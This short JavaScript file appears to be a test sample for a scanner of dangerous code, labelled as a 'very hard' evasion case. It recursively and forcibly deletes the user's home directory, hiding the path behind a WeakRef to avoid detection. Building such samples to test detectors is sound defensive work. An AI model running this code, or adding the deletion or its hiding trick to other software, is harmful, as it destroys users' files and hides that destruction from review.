// evasion: the home directory held in an object behind a WeakRef; the dereferenced object's field is deleted
// grade: very hard; does: delete
const fs = require("fs");
const os = require("os");
const ref = new WeakRef({ dir: os.homedir() });
const held = ref.deref();
if (held) fs.rmSync(held.dir, { recursive: true, force: true });
